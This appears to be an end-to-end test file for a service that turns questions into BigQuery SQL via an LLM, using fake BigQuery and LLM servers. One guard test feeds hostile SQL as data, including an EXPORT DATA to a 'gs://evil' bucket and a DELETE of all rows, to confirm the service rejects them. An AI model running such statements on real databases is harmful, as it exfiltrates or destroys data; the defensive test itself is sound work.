/**
 * Questions end to end through POST /api/query with database.provider: bigquery — every actor
 * over NATS, the real @google-cloud/bigquery SDK with a service-account key whose token comes
 * from its token_uri, and a local server speaking the BigQuery REST API that answers from a
 * real PostgreSQL. The model is a local server speaking Anthropic's Messages API.
 */
import t from 'tap';
import { Bus } from '../../runtime/bus.js';
import { createLogger } from '../../runtime/log.js';
import { SqlExecute } from '../../protocol/subjects.js';
import { testConfig } from '../helpers/config.js';
import { startFakeBigQuery } from '../helpers/fake-bigquery.js';
import { sqlAnswer, startFakeLlm } from '../helpers/fake-llm.js';
import { startNats } from '../helpers/nats.js';
import { backendsStillRunning, createTestDb } from '../helpers/pg.js';
import { call, startStack } from '../helpers/stack.js';

// keeps google-auth-library from probing for a GCE metadata server (test process only)
process.env.METADATA_SERVER_DETECTION = 'none';

const PROJECT = 'cortado-e2e';
const PRICE = 6.25;

const db = await createTestDb('e2e_bq');
await db.pool.query(`
  CREATE SCHEMA analytics;
  CREATE TABLE analytics.sales (id integer PRIMARY KEY, store text NOT NULL, amount numeric(10,2) NOT NULL, sold_at timestamptz NOT NULL);
  COMMENT ON TABLE analytics.sales IS 'one row per sale in a store';
  INSERT INTO analytics.sales VALUES
    (1, 'Centrum', 12.50, '2024-01-03 09:00:00+00'), (2, 'Centrum', 7.25, '2024-01-04 10:30:00+00'), (3, 'Harbour', 30.00, '2024-01-03 12:00:00+00'),
    (4, 'Harbour', 4.75, '2024-02-01 08:15:00+00'), (5, 'Station', 9.00, '2024-02-02 17:45:00+00');
`);
const bq = await startFakeBigQuery({ databaseUrl: db.url, projectId: PROJECT, location: 'EU' });
const llm = await startFakeLlm();
const nats = await startNats();
const config = testConfig({
  natsUrl: nats.url,
  llmUrl: llm.url,
  extra: {
    bus: { prefer_local: false },
    insights: { enabled: true, mode: 'statistical_only', max_insights: 3 },
    database: {
      provider: 'bigquery',
      bigquery: {
        project_id: PROJECT,
        dataset: 'analytics',
        location: 'EU',
        credentials_json: JSON.stringify(bq.serviceAccount()),
        max_results: 2,
        price_per_tb_usd: PRICE,
        base_url: bq.url,
        timeout: 1,
      },
    },
  },
});
const stack = await startStack(config);
const log = createLogger({ svc: 'test', level: 'silent' });
const client = await Bus.connect({ url: nats.url, prefix: 'cortado', name: 'e2e-bq-client', log });
t.teardown(async () => {
  await client.close();
  await stack.stop();
  await llm.close();
  await bq.close();
  await db.drop();
  await nats.stop();
});

const API = `/bigquery/v2/projects/${PROJECT}`;
const BY_STORE = 'SELECT store, SUM(amount) AS revenue, COUNT(*) AS sales FROM sales GROUP BY store ORDER BY revenue DESC';

function apiCalls(from: number): string[] {
  return bq.calls.slice(from).filter((c) => !c.endsWith('/token')).map((c) => c.replace(API, '').replace(/\/(queries|jobs)\/[^/]+/, '/$1/{id}'));
}

t.beforeEach(() => {
  llm.requests.length = 0;
  llm.fallback(() => ({ status: 500, message: 'unscripted' }));
});

t.test('a question → GoogleSQL → dry run, job, pages → the database\'s rows', async (t) => {
  llm.script({ text: sqlAnswer(BY_STORE, 'Revenue per store, best first.') });
  const from = bq.calls.length;
  const res = await call(`${stack.url}/api/query`, { body: { question: 'Which store sells the most?' } });
  t.equal(res.status, 200, res.text);
  const b = res.body;
  t.equal(b.intent, 'sql');
  t.equal(b.sql, `${BY_STORE}\nLIMIT 100`);
  t.same(b.columns, [{ name: 'store', type: 'STRING' }, { name: 'revenue', type: 'NUMERIC' }, { name: 'sales', type: 'INT64' }]);
  const direct = await db.pool.query('SELECT store, sum(amount)::float8 AS revenue, count(*)::int AS sales FROM analytics.sales GROUP BY store ORDER BY revenue DESC');
  t.same(b.rows, direct.rows.map((r) => [r.store, r.revenue, r.sales]), 'the rows are the database\'s, paged two at a time');
  t.equal(b.row_count, 3);
  t.equal(b.truncated, false);
  t.ok(Array.isArray(b.insights) && b.insights.length > 0, 'statistical insights on the rows');
  t.same(apiCalls(from).slice(-3), ['POST /jobs', 'POST /queries', 'GET /queries/{id}'], 'the question: dry run, jobs.query, one more page');
  const schemaQueries = bq.requests.filter((x) => /INFORMATION_SCHEMA\.(TABLES|COLUMNS)/.test(String(x.body.query ?? '')));
  t.equal(schemaQueries.length, 2, 'before it, the catalog read the dataset\'s INFORMATION_SCHEMA (tables, columns)');

  const prompt = llm.requests[0]!;
  t.match(prompt.system, /BigQuery/, 'the model is told the dialect');
  t.match(prompt.system, /sales/, 'the schema from INFORMATION_SCHEMA is in the prompt');
  t.match(prompt.system, /store/);
  t.match(prompt.system, /one row per sale/);

  // the executor's reply carries the cost; the answer to the question (AskReply) has no field for it
  const reply = await client.request(SqlExecute, { sql: BY_STORE }, { requestId: 'e2e-bq-cost' });
  const run = bq.requests.filter((x) => x.path === `${API}/queries` && x.method === 'POST').at(-1);
  t.equal(reply.bytes_processed, bq.bytesFor(run?.body.query));
  t.equal(reply.estimated_cost_usd, (bq.bytesFor(run?.body.query) / 2 ** 40) * PRICE);
  t.equal(run?.body.location, 'EU', 'jobs run in the configured location');
});

t.test('self-correction: BigQuery\'s error goes back to the model once', async (t) => {
  llm.script({ text: sqlAnswer('SELECT total FROM sales') }, { text: sqlAnswer('SELECT SUM(amount) AS total FROM sales') });
  const res = await call(`${stack.url}/api/query`, { body: { question: 'total sales?' } });
  t.equal(res.status, 200, res.text);
  t.equal(res.body.sql, 'SELECT SUM(amount) AS total FROM sales\nLIMIT 100');
  t.same(res.body.rows, [[63.5]]);
  t.equal(res.body.corrections, 1);
  t.equal(res.body.usage.llm_calls, 2);
  t.match(llm.requests[1]!.last, /total/, 'the model saw the database\'s error');
  t.match(llm.requests[1]!.last, /does not exist/);
});

t.test('the guard stops what the model writes: nothing reaches BigQuery', async (t) => {
  for (const sql of ["EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT * FROM sales", 'DELETE FROM sales WHERE TRUE', "SELECT * FROM EXTERNAL_QUERY('eu.pg', 'SELECT 1')"]) {
    llm.fallback(() => ({ text: sqlAnswer(sql) }));
    const from = bq.calls.length;
    const res = await call(`${stack.url}/api/query`, { body: { question: 'do something bad' } });
    t.equal(res.status, 422, res.text);
    t.equal(res.body.error.code, 'SQL_REJECTED', sql);
    t.same(apiCalls(from), [], `${sql}: no call to BigQuery`);
  }
  const count = await db.pool.query('SELECT count(*)::int AS n FROM analytics.sales');
  t.equal(count.rows[0].n, 5);
});

t.test('a query past database.bigquery.timeout: 504 DB_TIMEOUT, the job cancelled', async (t) => {
  llm.script({ text: sqlAnswer('WITH RECURSIVE slow_rows AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM slow_rows WHERE i < 100000000) SELECT COUNT(*) AS n FROM slow_rows') });
  const from = bq.calls.length;
  const res = await call(`${stack.url}/api/query`, { body: { question: 'count a lot' } });
  t.equal(res.status, 504, res.text);
  t.equal(res.body.error.code, 'DB_TIMEOUT');
  t.equal(apiCalls(from).at(-1), 'POST /jobs/{id}/cancel');
  t.equal(await backendsStillRunning(db, 'FROM slow_rows'), 0, 'nothing of it still runs');
});

t.test('health: the database answers a dry run', async (t) => {
  const from = bq.calls.length;
  const res = await call(`${stack.url}/health`);
  t.equal(res.status, 200, res.text);
  t.equal(res.body.database, 'ok');
  t.same(apiCalls(from), ['POST /jobs']);
  t.ok(bq.tokensIssued() >= 1, 'the key got its token from its token_uri');
});
